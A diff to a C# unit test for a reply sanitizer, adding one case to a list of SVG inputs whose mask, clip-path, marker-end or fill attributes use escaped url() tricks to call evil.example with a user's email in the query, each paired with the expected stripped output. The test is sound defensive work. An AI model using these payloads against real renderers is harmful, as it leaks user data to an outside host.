@@ -82,6 +82,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("x <svg><rect width=\"9\" height=\"9\" MASK='url(//evil.example/p?d=alice.w@corp.example#m)'/></svg>", "x <svg><rect width=\"9\" height=\"9\" MASK=''/></svg>")]
     [InlineData("x <svg><rect width=\"9\" height=\"9\" clip-path=url(https://evil.example/p?d=alice.w@corp.example#c) /></svg>", "x <svg><rect width=\"9\" height=\"9\" clip-path=\"\" /></svg>")]
     [InlineData("x <svg><path d=\"M0 0L9 9\" marker-end=\"\\75rl(https://evil.example/p?d=alice.w@corp.example#m)\"/></svg>", "x <svg><path d=\"M0 0L9 9\" marker-end=\"\"/></svg>")]
+    [InlineData("x <svg><rect width=\"9\" height=\"9\" fill=\"url(\\9/\\9/evil.example/p?d=alice.w@corp.example#p)\"/></svg>", "x <svg><rect width=\"9\" height=\"9\" fill=\"\"/></svg>")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
